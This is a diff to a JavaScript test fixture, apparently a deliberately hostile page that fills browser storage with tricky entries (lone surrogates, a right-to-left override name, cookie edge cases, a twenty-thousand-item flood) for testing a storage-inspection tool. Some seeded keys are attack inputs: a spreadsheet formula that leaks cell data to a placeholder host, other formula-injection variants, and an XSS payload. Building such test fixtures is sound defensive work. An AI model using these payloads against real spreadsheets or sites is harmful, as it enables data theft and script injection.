@@ -21,16 +21,19 @@
   put(window.hostile.trackerKey, '{"id":"hx-secret-hotjar-7","createdAt":1795348436123}');
   put("clean-key", "hx-secret-v\uDC00alue");
   // A right-to-left override that would show "invoiceexe.png".
-  // Written when the test asks, so it is the newest entry in the log page.
-  window.hostile.addRtl = () => put(window.hostile.rtlKey, "hx-secret-rtl");
+  put(window.hostile.rtlKey, "hx-secret-rtl");
   // Spreadsheet formulas, one behind a line break, one behind spaces, one full-width.
   put('=HYPERLINK("https://evil.example/?leak="&A1,"open")', "hx-secret-f1");
   put("\n=1+1", "hx-secret-f2");
   put("   @SUM(A1)", "hx-secret-f3");
   put("\uFF1D1+1", "hx-secret-f4");
   put("<img src=x onerror=alert(1)>", "hx-secret-xss");
-  // The flood.
-  for (let i = 0; i < FLOOD; i++) put(`flood-${String(i).padStart(5, "0")}`, "x");
+  // The flood, when the test asks (twenty thousand writes take Firefox a
+  // while): items recorded before it stay recorded.
+  window.hostile.flood = () => {
+    for (let i = 0; i < FLOOD; i++) put(`flood-${String(i).padStart(5, "0")}`, "x");
+    return localStorage.length;
+  };
 
   // Cookies: an absurd Max-Age (the browser keeps at most 400 days), and one
   // that the page deletes later with an Expires in 1970.
@@ -44,21 +47,28 @@
     put("raw-key", "hx-raw-value-42");
     document.cookie = "hx_raw=hx-raw-cookie-42; Max-Age=3600; Path=/; Secure; SameSite=Lax";
   };
-  // Names with lone surrogates where the browser allows them.
-  const idb = new Promise((resolve) => {
-    try {
-      const req = indexedDB.open("hx-db\uD800");
-      req.onsuccess = () => {
-        req.result.close();
-        resolve();
-      };
-      req.onerror = () => resolve();
-    } catch {
-      resolve();
-    }
+  // Names with lone surrogates where the browser allows them. Whatever the
+  // browser does with them, the page is ready after at most two seconds.
+  window.hostile.status = {};
+  const settle = (name, p) =>
+    Promise.race([p, new Promise((r) => setTimeout(() => r("timeout"), 2000))]).then(
+      (v) => (window.hostile.status[name] = v ?? "ok"),
+      (e) => (window.hostile.status[name] = String(e)),
+    );
+  const idb = new Promise((resolve, reject) => {
+    const req = indexedDB.open("hx-db\uD800");
+    req.onsuccess = () => {
+      req.result.close();
+      resolve("ok");
+    };
+    req.onerror = () => reject(req.error);
   });
-  const cache = (globalThis.caches ? caches.open("hx-cache\uDC00").catch(() => {}) : Promise.resolve());
-  Promise.all([idb, cache]).then(() => {
+  const cache = globalThis.caches ? caches.open("hx-cache\uDC00") : Promise.resolve("no caches");
+  // Whether this browser keeps lone surrogates in localStorage keys at all.
+  let kept = false;
+  for (let i = 0; i < localStorage.length && !kept; i++) kept = !localStorage.key(i).isWellFormed();
+  window.hostile.keepsLoneSurrogates = kept;
+  Promise.all([settle("indexedDB", idb), settle("caches", cache)]).then(() => {
     const ready = () => document.documentElement.setAttribute("data-stand-in-ready", "true");
     if (document.readyState === "complete") ready();
     else window.addEventListener("load", ready);
